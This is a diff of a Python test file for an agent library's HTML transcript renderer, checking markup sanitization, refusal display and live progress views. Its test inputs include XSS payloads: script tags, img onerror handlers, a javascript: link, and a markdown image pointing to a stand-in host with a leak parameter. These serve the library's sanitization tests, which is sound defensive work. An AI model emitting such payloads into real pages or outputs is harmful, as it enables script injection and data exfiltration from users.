@@ -14,19 +14,7 @@ from bettong_nb import Deny, ToolCall
 from bettong_nb.records import transcript_html
 from bettong_nb.notebook import display
 from bettong_nb.providers.scripted import Scripted
-
-EVIL = '<script>alert("x")</script><img src=x onerror=alert(1)>'
-
-
-def _agent(model, **options):
-    def echo(text: str) -> str:
-        """Echo text back."""
-        if text == "boom":
-            raise ValueError("boom happened")
-        return f"echo: {text}"
-
-    return bettong_nb.agent(provider=model, capabilities=[{"id": "echoes", "instructions": None,
-                                                            "tools": [bettong_nb.tool(echo)]}], **options)
+from support.echo_runs import EVIL, Recorder, echo_agent, mixed_run
 
 
 def _block(tool, args, *, status, call_id="", capability=None, result=None, duration_s=None, redactions=0,
@@ -117,18 +105,9 @@ def test_long_results_are_capped_in_the_display_only():
 
 # --- transcripts ------------------------------------------------------------------------------
 
-def _mixed_run():
-    model = Scripted([
-        {"text": "Let me try.", "tool_calls": [("echo", {"text": EVIL}), ("echo", {"text": "boom"}),
-                                                ("echo", {"text": "no"})]},
-        "All **done**",
-    ])
-    deny = lambda r: Deny("not that one") if r.args.get("text") == "no" else True  # noqa: E731
-    return _agent(model, approve_fn=deny, prices={"input": 1, "output": 1}).run(f"Echo {EVIL}")
-
 
 def test_result_html_is_a_static_transcript_with_expandable_tool_calls():
-    result = _mixed_run()
+    result = mixed_run()
     html = display.result_html(result)
     assert "<script" not in html and "<img" not in html and "javascript" not in html.lower()
     assert html.count("<details class=\"bettong-tool") == 3
@@ -147,7 +126,7 @@ def test_result_html_is_a_static_transcript_with_expandable_tool_calls():
 def test_transcript_answers_render_markdown_without_images_or_raw_html():
     answer = ("- **a**\n- see ![x](https://evil.example/?leak=1) <img src=y onerror=z> [l](javascript:alert(1))"
               "\n\n```\nif a<b: pass\n```")
-    result = _agent(Scripted([answer])).run("go")
+    result = echo_agent(Scripted([answer])).run("go")
     html = display.result_html(result)
     assert "<li><strong>a</strong></li>" in html
     assert not re.search(r"<img(?![^>]*src=\"data:image/)", html) and "javascript:" not in _attributes(html)
@@ -157,12 +136,12 @@ def test_transcript_answers_render_markdown_without_images_or_raw_html():
 
 
 def test_result_html_says_when_a_run_stopped_early():
-    result = _agent(Scripted([[("echo", {"text": "a"})]] * 3)).run("loop", max_steps=2)
+    result = echo_agent(Scripted([[("echo", {"text": "a"})]] * 3)).run("loop", max_steps=2)
     assert "hit max_steps (2)</span>" in display.result_html(result)
 
 
 def test_session_html_shows_every_turn_and_the_totals():
-    chat = _agent(Scripted([[("echo", {"text": "one"})], "first answer", "second answer"])).session()
+    chat = echo_agent(Scripted([[("echo", {"text": "one"})], "first answer", "second answer"])).session()
     assert "(no turns yet)" in display.session_html(chat)
     chat.run("turn one")
     chat.run("turn two")
@@ -180,7 +159,7 @@ def test_a_refused_answer_shows_as_a_refusal_never_as_the_answer():
 
     refusal = Response(content=[{"type": "text", "text": "partial text the model took back"}], stop_reason="refusal",
                        stop_details={"type": "refusal", "category": "cyber", "explanation": "not this"})
-    chat = _agent(Scripted(["first answer", refusal, "third answer"])).session()
+    chat = echo_agent(Scripted(["first answer", refusal, "third answer"])).session()
     refused = [chat.run(p) for p in ("one", "two", "three")][1]
     why = "the model refused to answer — category: cyber; explanation: not this"
 
@@ -208,34 +187,13 @@ def test_a_refused_answer_shows_as_a_refusal_never_as_the_answer():
 
 # --- the live view ----------------------------------------------------------------------------
 
-class Recorder:
-    """Stands in for IPython display handles: keeps every bundle each handle showed."""
-
-    def __init__(self):
-        self.handles = []
-
-    def show(self, bundle):
-        recorder = self
-
-        class Handle:
-            def __init__(self):
-                self.bundles = [bundle]
-
-            def update(self, new, raw=False):
-                assert raw
-                self.bundles.append(new)
-
-        handle = Handle()
-        recorder.handles.append(handle)
-        return handle
-
 
 def _live(model, prompt="go", **options):
     recorder = Recorder()
 
     async def main():
         view = display.LiveView(show=recorder.show, interval=0.05)
-        result = await _agent(model, on_event=view, stream=True, **options).arun(prompt)
+        result = await echo_agent(model, on_event=view, stream=True, **options).arun(prompt)
         view.finish(result)
         return view, result
 
@@ -271,7 +229,7 @@ def test_live_view_shows_a_running_tool_and_an_approval_wait():
             seen.append(view.activity_html())
             return Deny("because")
 
-        result = await _agent(Scripted([[("echo", {"text": "a"})], "ok"]), on_event=view,
+        result = await echo_agent(Scripted([[("echo", {"text": "a"})], "ok"]), on_event=view,
                               approve_fn=approve).arun("go")
         view.finish(result)
 
@@ -402,10 +360,10 @@ def test_a_loaded_run_marks_its_own_refused_turn_not_the_first(tmp_path):
     from bettong_nb.records.transcript_html import is_prompt, session_html
 
     refusal = Response(content=[{"type": "text", "text": "taken back"}], stop_reason="refusal")
-    chat = _agent(Scripted(["first answer", refusal])).session()
+    chat = echo_agent(Scripted(["first answer", refusal])).session()
     chat.run("one")
     refused = chat.run("two")
-    loaded = bettong_nb.load_session(refused.export(tmp_path / "run.json"), _agent(Scripted([])))
+    loaded = bettong_nb.load_session(refused.export(tmp_path / "run.json"), echo_agent(Scripted([])))
     assert len(loaded.results) == 1 and sum(map(is_prompt, loaded.transcript)) == 2
     html = session_html(loaded)
     assert "first answer" in html.split("bettong-refusal")[0]
